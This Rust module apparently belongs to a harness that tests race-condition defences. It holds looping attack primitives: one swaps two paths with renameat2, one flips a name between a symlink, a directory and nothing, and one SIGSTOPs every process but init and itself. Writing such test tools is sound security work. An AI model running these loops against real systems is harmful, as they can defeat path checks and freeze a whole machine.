//! Attacks that win, if at all, by being quick. They go on until somebody ends them.

use crate::kernel::{KILL, RENAMEAT2, call, processes, text};
use std::io::Write;

const AT_FDCWD: usize = (-100_isize).cast_unsigned();
const RENAME_EXCHANGE: usize = 2;
const SIGSTOP: usize = 19;

/// Exchanges two names over and over.
pub fn exchange(one: &str, other: &str) {
    let (one, other) = (text(one), text(other));
    ready();
    loop {
        let arguments = [
            AT_FDCWD,
            one.as_ptr().addr(),
            AT_FDCWD,
            other.as_ptr().addr(),
            RENAME_EXCHANGE,
            0,
        ];
        let _ = call(RENAMEAT2, arguments);
    }
}

/// Makes a name a link to `target`, a directory, and nothing, over and over.
pub fn alternate(name: &str, target: &str) {
    ready();
    loop {
        let _ = std::os::unix::fs::symlink(target, name);
        let _ = std::fs::remove_file(name);
        let _ = std::fs::create_dir(name);
        let _ = std::fs::remove_dir(name);
    }
}

/// Stops every process that appears, before it can do what it came for.
pub fn stop_everybody() {
    let own = usize::try_from(std::process::id()).unwrap_or(0);
    ready();
    loop {
        for pid in processes() {
            if pid != 1 && pid != own {
                let _ = call(KILL, [pid, SIGSTOP, 0, 0, 0, 0]);
            }
        }
    }
}

/// Stays and does nothing.
pub fn keep() {
    ready();
    loop {
        std::thread::sleep(std::time::Duration::from_secs(1000));
    }
}

/// Says that the attack has begun.
pub fn ready() {
    println!("ready");
    let _ = std::io::stdout().flush();
}
